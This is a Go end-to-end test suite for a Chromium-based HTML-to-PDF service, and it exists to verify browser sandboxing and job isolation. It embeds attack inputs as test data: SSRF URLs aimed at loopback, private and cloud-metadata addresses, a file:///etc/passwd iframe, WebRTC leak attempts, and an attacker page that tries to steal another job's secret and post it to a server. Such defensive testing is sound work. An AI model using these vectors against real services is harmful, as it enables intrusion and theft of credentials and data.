package e2e

import (
	"crypto/rand"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"
)

// Browser isolation (DESIGN §5): every way out of the browser goes through
// the egress proxy, and a page reaches only its own job's files.

// udpCanary counts the datagrams sent to a loopback UDP port.
type udpCanary struct {
	packets atomic.Int64
	port    string
}

func startUDPCanary(t *testing.T, network, addr string) *udpCanary {
	t.Helper()
	pc, err := net.ListenPacket(network, addr)
	if err != nil {
		t.Fatal(err)
	}
	c := &udpCanary{}
	_, c.port, _ = net.SplitHostPort(pc.LocalAddr().String())
	go func() {
		buf := make([]byte, 2048)
		for {
			if _, _, err := pc.ReadFrom(buf); err != nil {
				return
			}
			c.packets.Add(1)
		}
	}()
	t.Cleanup(func() { pc.Close() })
	return c
}

// tcpCanary counts the connections made to a loopback TCP port, whatever
// is sent on them (an HTTP request, a TURN allocation or nothing: a
// preconnect), and answers an HTTP request with CANARYLEAK.
type tcpCanary struct {
	conns atomic.Int64
	port  string
}

func startTCPCanary(t *testing.T, network, addr string) *tcpCanary {
	t.Helper()
	ln, err := net.Listen(network, addr)
	if err != nil {
		t.Fatal(err)
	}
	c := &tcpCanary{}
	_, c.port, _ = net.SplitHostPort(ln.Addr().String())
	go func() {
		for {
			conn, err := ln.Accept()
			if err != nil {
				return
			}
			c.conns.Add(1)
			go func() {
				defer conn.Close()
				conn.SetDeadline(time.Now().Add(2 * time.Second))
				buf := make([]byte, 4096)
				if n, _ := conn.Read(buf); n > 0 && strings.Contains(string(buf[:n]), "HTTP/") {
					io.WriteString(conn, "HTTP/1.1 200 OK\r\nContent-Length: 10\r\nConnection: close\r\n\r\nCANARYLEAK")
				}
			}()
		}
	}()
	t.Cleanup(func() { ln.Close() })
	return c
}

// board is an allow-listed loopback server pages talk to: they put values
// under keys (/put/KEY?v=... or a POST body), wait for them (/get/KEY), and
// hold their load event with an image (/hold/KEY) until a key is put. It
// records the headers of every request under /third/, which plays a
// third-party host. Every answer allows any origin.
type board struct {
	addr string
	mu   sync.Mutex
	vals map[string]string
	put  map[string]chan struct{}
	seen []seenRequest
}

type seenRequest struct {
	URL    string
	Header http.Header
}

const gif1x1 = "GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"

func startBoard(t *testing.T) *board {
	t.Helper()
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	b := &board{addr: ln.Addr().String(), vals: map[string]string{}, put: map[string]chan struct{}{}}
	srv := &http.Server{Handler: http.HandlerFunc(b.serve)}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })
	return b
}

func (b *board) chanFor(key string) chan struct{} {
	b.mu.Lock()
	defer b.mu.Unlock()
	ch, ok := b.put[key]
	if !ok {
		ch = make(chan struct{})
		b.put[key] = ch
	}
	return ch
}

// value waits up to d for key and returns its value.
func (b *board) value(key string, d time.Duration) (string, bool) {
	select {
	case <-b.chanFor(key):
	case <-time.After(d):
		return "", false
	}
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.vals[key], true
}

func (b *board) serve(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Access-Control-Allow-Origin", "*")
	w.Header().Set("Access-Control-Allow-Headers", "*")
	w.Header().Set("Cache-Control", "no-store")
	op, key, _ := strings.Cut(strings.TrimPrefix(r.URL.Path, "/"), "/")
	switch op {
	case "put":
		v := r.URL.Query().Get("v")
		if r.Method == http.MethodPost {
			body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
			v = string(body)
		}
		ch := b.chanFor(key)
		b.mu.Lock()
		if _, done := b.vals[key]; !done {
			b.vals[key] = v
			close(ch)
		}
		b.mu.Unlock()
		w.WriteHeader(http.StatusNoContent)
	case "get":
		v, _ := b.value(key, 20*time.Second)
		io.WriteString(w, v)
	case "hold":
		b.value(key, 20*time.Second)
		w.Header().Set("Content-Type", "image/gif")
		io.WriteString(w, gif1x1)
	case "third":
		b.mu.Lock()
		b.seen = append(b.seen, seenRequest{URL: r.URL.String(), Header: r.Header.Clone()})
		b.mu.Unlock()
		if strings.HasSuffix(r.URL.Path, ".gif") {
			w.Header().Set("Content-Type", "image/gif")
			io.WriteString(w, gif1x1)
			return
		}
		if strings.HasSuffix(r.URL.Path, ".css") {
			w.Header().Set("Content-Type", "text/css")
			fmt.Fprintf(w, "body { background: url(http://%s/third/from-css.gif) }", b.addr)
			return
		}
		io.WriteString(w, "THIRDPARTY")
	default:
		http.NotFound(w, r)
	}
}

// TestPagesHaveNoWayOutButTheProxy: a page that tries WebRTC (STUN and
// TURN over UDP and TCP, ICE gathering awaited), DNS prefetch, preconnect,
// prefetch, beacons and every vector of TestPagesCannotReachPrivateAddresses
// sends not one packet to loopback canaries, UDP or TCP.
func TestPagesHaveNoWayOutButTheProxy(t *testing.T) {
	bd := startBoard(t)
	svc := startService(t, func(cfg *configT) {
		cfg.RenderAllowHosts = []string{bd.addr}
		cfg.RenderTimeout = 30 * time.Second
	})
	c := newClient(t, svc)
	u4, u6 := startUDPCanary(t, "udp4", "127.0.0.1:0"), startUDPCanary(t, "udp6", "[::1]:0")
	t4, t6 := startTCPCanary(t, "tcp4", "127.0.0.1:0"), startTCPCanary(t, "tcp6", "[::1]:0")

	servers := []string{
		"stun:127.0.0.1:" + u4.port, "stun:[::1]:" + u6.port, "stun:localhost:" + u4.port,
		"turn:127.0.0.1:" + u4.port + "?transport=udp", "turn:[::1]:" + u6.port + "?transport=udp",
		"turn:127.0.0.1:" + t4.port + "?transport=tcp", "turn:[::1]:" + t6.port + "?transport=tcp",
		"turns:127.0.0.1:" + t4.port + "?transport=tcp",
	}
	hosts := []string{"127.0.0.1:" + t4.port, "[::1]:" + t6.port, "localhost:" + t4.port}
	var b strings.Builder
	b.WriteString(`<!doctype html><html><head>`)
	for _, h := range hosts {
		fmt.Fprintf(&b, `<link rel="dns-prefetch" href="//%s"><link rel="preconnect" href="http://%s">`, h, h)
		fmt.Fprintf(&b, `<link rel="preconnect" href="https://%s" crossorigin><link rel="prefetch" href="http://%s/prefetch">`, h, h)
		fmt.Fprintf(&b, `<link rel="preload" as="image" href="http://%s/preload.png">`, h)
	}
	fmt.Fprintf(&b, `<link rel="dns-prefetch" href="//dnsprefetch-%s.example">`, strings.ToLower(rand.Text()[:10]))
	fmt.Fprintf(&b, `<img src="http://%s/hold/rtc"></head><body><p>START</p><p id="rtc">RTC NOTRUN</p>`, bd.addr)
	targets := privateTargets(t4.port, t6.port)
	for i, u := range targets {
		fmt.Fprintf(&b, `<img src="%s?i=%d"><iframe src="%s?f=%d"></iframe><link rel="stylesheet" href="%s?css=%d">`, u, i, u, i, u, i)
	}
	b.WriteString(`<iframe src="file:///etc/passwd"></iframe>`)
	fmt.Fprintf(&b, `<script>
const servers = %s, urls = %s, board = 'http://%s';
async function gather(iceServers, iceTransportPolicy) {
  const pc = new RTCPeerConnection({ iceServers, iceTransportPolicy });
  pc.createDataChannel('x');
  const cands = [];
  const done = new Promise(r => {
    pc.onicecandidate = e => { if (e.candidate) cands.push(e.candidate.type || e.candidate.candidate); else r(); };
  });
  await pc.setLocalDescription(await pc.createOffer());
  const timedOut = await Promise.race([done.then(() => false), new Promise(r => setTimeout(() => r(true), 6000))]);
  const state = pc.iceGatheringState;
  pc.close();
  return state + (timedOut ? '-timeout' : '') + ':' + cands.length;
}
async function main() {
  const runs = [];
  for (const s of servers) {
    const ice = s.startsWith('turn') ? [{ urls: s, username: 'u', credential: 'p' }] : [{ urls: s }];
    for (const policy of s.startsWith('turn') ? ['all', 'relay'] : ['all']) {
      runs.push(gather(ice, policy).then(r => s + ' ' + policy + ' ' + r, e => s + ' error ' + e.name));
    }
  }
  const out = await Promise.all(runs);
  await Promise.allSettled(urls.map(u => {
    if (u.startsWith('ws')) { try { new WebSocket(u); } catch (e) {} return Promise.resolve(); }
    try { navigator.sendBeacon(u + '?beacon=1', 'x'); } catch (e) {}
    return fetch(u).then(r => r.text());
  }));
  try { new EventSource(urls[0] + '?sse=1'); } catch (e) {}
  document.getElementById('rtc').textContent = 'RTCDONE ' + out.join(' ');
  await fetch(board + '/put/rtc?v=' + encodeURIComponent(out.join(' ')));
}
main().catch(e => fetch(board + '/put/rtc?v=' + encodeURIComponent('failed ' + e)));
</script></body></html>`, jsList(servers), jsList(targets), bd.addr)

	txt := text(t, c.generatePDF(b.String(), nil))
	got, _ := bd.value("rtc", time.Second)
	t.Logf("ICE gathering per server: %s", got)
	if strings.Contains(txt, "CANARYLEAK") || strings.Contains(txt, "root:") {
		t.Fatalf("a private resource reached the PDF:\n%s", txt)
	}
	// Anything that left the browser around the proxy (or was let through
	// by it) shows up here; give late packets a moment.
	time.Sleep(500 * time.Millisecond)
	for name, n := range map[string]int64{
		"UDP 127.0.0.1": u4.packets.Load(), "UDP [::1]": u6.packets.Load(),
		"TCP 127.0.0.1": t4.conns.Load(), "TCP [::1]": t6.conns.Load(),
	} {
		if n != 0 {
			t.Errorf("%s canary reached %d times", name, n)
		}
	}
	if !strings.Contains(txt, "RTCDONE") {
		t.Fatalf("the page's script did not finish before the print (board: %q):\n%s", got, txt)
	}
}

// privateTargets are loopback, private and metadata addresses written every
// way a page may spell them; v4 and v6 are canary ports on 127.0.0.1 and [::1].
func privateTargets(v4, v6 string) []string {
	return []string{
		"http://127.0.0.1:" + v4 + "/img",
		"http://localhost:" + v4 + "/img",
		"http://sub.localhost:" + v4 + "/img",
		"http://127.1:" + v4 + "/short",
		"http://2130706433:" + v4 + "/decimal",
		"http://[::ffff:127.0.0.1]:" + v4 + "/mapped",
		"http://[::1]:" + v6 + "/v6",
		"https://127.0.0.1:" + v4 + "/tls",
		"ws://127.0.0.1:" + v4 + "/ws",
		"http://169.254.169.254/latest/meta-data/",
		"http://[fd00:ec2::254]/latest/meta-data/",
		"http://10.0.0.1:" + v4 + "/private",
	}
}

var tokenRe = regexp.MustCompile(`b([0-9a-f]{32})\.bundle\.docrender\.internal`)

// TestJobsCannotReadEachOthersFiles: while a scripted job (the victim) runs
// and has told its address (its bundle token) to a server, another scripted
// job (the attacker) that learns the token tries every way to its files:
// the shared home origin, by iframe with a script of its own there and by
// script include, and the victim's own host by fetch, iframe and script
// include. It reads nothing of the victim's secret.
func TestJobsCannotReadEachOthersFiles(t *testing.T) {
	bd := startBoard(t)
	svc := startService(t, func(cfg *configT) {
		cfg.RenderAllowHosts = []string{bd.addr}
		cfg.RenderTimeout = 30 * time.Second
	})
	victim, attacker := newClient(t, svc), newClient(t, svc)
	secret := "SECRET" + rand.Text()

	victimHTML := fmt.Sprintf(`<!doctype html><p>VICTIM</p><script>
fetch('http://%[1]s/put/victim?v=' + encodeURIComponent(location.href));
</script><img src="http://%[1]s/hold/attacked">`, bd.addr)
	victimFiles := []file{htmlFile("index.html", victimHTML),
		{Name: "secret.txt", Type: "text/plain", Data: []byte(secret)},
		{Name: "secret.js", Type: "text/javascript", Data: []byte(`window.stolen = (window.stolen || '') + ' ` + secret + `';`)},
	}
	// evil.html is the attacker's own file; opened on the home origin it
	// would run there, where every job's files are under /<token>/.
	evilHTML := `<!doctype html><script>
const tok = location.hash.slice(1);
Promise.allSettled(['/' + tok + '/secret.txt', 'http://b' + tok + '.bundle.docrender.internal/secret.txt'].map(u =>
  fetch(u).then(r => r.text()))).then(rs =>
  parent.postMessage('home-frame: ' + rs.map(r => r.value || r.reason).join(' | '), '*'));
</script>`
	attackerHTML := fmt.Sprintf(`<!doctype html><p>ATTACKER</p><p id="out"></p><script>
const board = 'http://%[1]s', home = 'http://home.bundle.docrender.internal/';
const report = [];
const wait = ms => new Promise(r => setTimeout(r, ms));
function load(tag, attrs) {
  return new Promise(r => {
    const el = document.createElement(tag);
    Object.assign(el, attrs);
    el.onload = () => r(el); el.onerror = () => r(el);
    document.body.appendChild(el);
    setTimeout(() => r(el), 3000);
  });
}
window.addEventListener('message', e => report.push(String(e.data)));
async function main() {
  const loc = await (await fetch(board + '/get/victim')).text();
  const m = /b([0-9a-f]{32})\.bundle\.docrender\.internal/.exec(loc);
  if (!m) { report.push('no token in ' + loc); return; }
  const victim = m[1], own = /b([0-9a-f]{32})\./.exec(location.host)[1];
  report.push('TOKENKNOWN');
  const victimHost = 'http://b' + victim + '.bundle.docrender.internal/';
  for (const u of [victimHost + 'secret.txt', home + victim + '/secret.txt']) {
    try { report.push('fetch: ' + await (await fetch(u)).text()); } catch (e) { report.push('fetch failed'); }
    try { report.push('no-cors: ' + (await fetch(u, { mode: 'no-cors' })).type); } catch (e) {}
    const f = await load('iframe', { src: u });
    try { report.push('iframe: ' + f.contentDocument.body.textContent); } catch (e) { report.push('iframe unreadable'); }
  }
  for (const u of [victimHost + 'secret.js', home + victim + '/secret.js']) await load('script', { src: u });
  report.push('script: ' + (window.stolen || 'none'));
  await load('iframe', { src: home + own + '/evil.html#' + victim });
  await wait(1500);
}
main().catch(e => report.push('error ' + e)).finally(() => {
  document.getElementById('out').textContent = report.join(' || ');
  return fetch(board + '/put/attacked', { method: 'POST', body: report.join(' || ') });
});
</script><img src="http://%[1]s/hold/attacked">`, bd.addr)
	attackerFiles := []file{htmlFile("index.html", attackerHTML), htmlFile("evil.html", evilHTML)}

	victimDone := make(chan []byte, 1)
	go func() {
		resp := victim.generate(victimFiles, nil)
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		if resp.StatusCode != http.StatusOK {
			b = nil
		}
		victimDone <- b
	}()
	loc, ok := bd.value("victim", 20*time.Second)
	if !ok || !tokenRe.MatchString(loc) {
		t.Fatalf("the victim did not tell its address: %q", loc)
	}
	resp := attacker.generate(attackerFiles, nil)
	mustStatus(t, resp, http.StatusOK)
	attackPDF := readAll(t, resp)
	report, _ := bd.value("attacked", time.Second)
	t.Logf("attacker's report: %s", report)
	if !strings.Contains(report, "TOKENKNOWN") {
		t.Fatalf("the attack did not run: %q", report)
	}
	if strings.Contains(report, secret) || strings.Contains(text(t, attackPDF), secret) {
		t.Fatalf("the attacker read the victim's file: %s", report)
	}
	victimPDF := <-victimDone
	if victimPDF == nil || !strings.Contains(text(t, victimPDF), "VICTIM") {
		t.Fatal("the victim's render failed")
	}
}

// TestThirdPartiesNeverSeeABundle: a written page and a scripted page load
// images, stylesheets, frames and CORS fetches from a third-party host,
// with referrer policies that would send the full address; no request
// carries a token or a bundle host in any header.
func TestThirdPartiesNeverSeeABundle(t *testing.T) {
	bd := startBoard(t)
	svc := startService(t, func(cfg *configT) {
		cfg.RenderAllowHosts = []string{bd.addr}
		cfg.RenderTimeout = 30 * time.Second
	})
	c := newClient(t, svc)
	third := "http://" + bd.addr + "/third/"
	written := fmt.Sprintf(`<!doctype html><link rel="stylesheet" href="%[1]sstyle.css"><p>WRITTEN</p>
<img src="%[1]sw1.gif"><img referrerpolicy="unsafe-url" src="%[1]sw2.gif"><img crossorigin="anonymous" src="%[1]sw3.gif">
<div style="background: url(%[1]sw4.gif); width: 10px; height: 10px"></div>`, third)
	pool := svc.Worker.Pool()
	opened := pool.Opened()
	if txt := text(t, c.generatePDF(written, nil)); !strings.Contains(txt, "WRITTEN") {
		t.Fatalf("written page: %q", txt)
	}
	if pool.Opened() != opened+1 {
		t.Fatal("the page without scripts was not written into the home document")
	}

	scripted := fmt.Sprintf(`<!doctype html><meta name="referrer" content="unsafe-url">
<link rel="stylesheet" href="%[1]sstyle.css"><p>SCRIPTED</p><img src="%[1]ss1.gif"><iframe src="%[1]sframe"></iframe>
<script>
const third = '%[1]s';
Promise.allSettled([
  fetch(third + 'cors'), fetch(third + 'cors-post', { method: 'POST', body: 'x' }),
  fetch(third + 'no-cors', { mode: 'no-cors', referrerPolicy: 'unsafe-url' }),
  new Promise(r => { const x = new XMLHttpRequest(); x.open('GET', third + 'xhr'); x.onloadend = r; x.send(); }),
  new Promise(r => { const i = new Image(); i.referrerPolicy = 'unsafe-url'; i.onload = i.onerror = r; i.src = third + 's2.gif'; }),
]).then(() => fetch('http://%[2]s/put/scripted?v=done'));
</script><img src="http://%[2]s/hold/scripted">`, third, bd.addr)
	if txt := text(t, c.generatePDF(scripted, nil)); !strings.Contains(txt, "SCRIPTED") {
		t.Fatalf("scripted page: %q", txt)
	}

	bd.mu.Lock()
	seen := append([]seenRequest(nil), bd.seen...)
	bd.mu.Unlock()
	paths := map[string]bool{}
	for _, r := range seen {
		u, _ := url.Parse(r.URL)
		paths[strings.TrimPrefix(u.Path, "/third/")] = true
		for k, vv := range r.Header {
			for _, v := range vv {
				if strings.Contains(strings.ToLower(v), "bundle.docrender.internal") || tokenRe.MatchString(v) {
					t.Errorf("%s: header %s: %s", r.URL, k, v)
				}
			}
		}
	}
	for _, want := range []string{"w1.gif", "w2.gif", "w3.gif", "w4.gif", "style.css", "from-css.gif", "s1.gif", "s2.gif", "frame", "cors", "cors-post", "no-cors", "xhr"} {
		if !paths[want] {
			t.Errorf("the third party never saw /third/%s (saw %v)", want, paths)
		}
	}
}

// /metrics tells whether Chromium runs with its sandbox: 1 by default (the
// tests run as root; Chromium runs as nobody), 0 when
// DOCRENDER_CHROMIUM_NO_SANDBOX allows it off, and renders go on either way.
func TestChromiumSandboxIsReported(t *testing.T) {
	for _, tc := range []struct {
		name      string
		noSandbox bool
		want      string
	}{{"default", false, "docrender_chromium_sandbox 1"}, {"allowed off", true, "docrender_chromium_sandbox 0"}} {
		t.Run(tc.name, func(t *testing.T) {
			svc := sharedService(t)
			if tc.noSandbox {
				svc = startService(t, func(cfg *configT) { cfg.ChromiumNoSandbox = true })
			}
			if m := scrape(t, svc.URL); !strings.Contains(m, "\n"+tc.want+"\n") {
				t.Errorf("/metrics lacks %q", tc.want)
			}
			if got := svc.Worker.Pool().Sandboxed(); got == tc.noSandbox {
				t.Errorf("Sandboxed() = %v", got)
			}
			c := newClient(t, svc)
			if txt := text(t, c.generatePDF(`<p>SANDBOXED</p><script>document.body.append('SCRIPT')</script>`, nil)); !strings.Contains(txt, "SANDBOXED") || !strings.Contains(txt, "SCRIPT\n") {
				t.Errorf("render: %q", txt)
			}
		})
	}
}
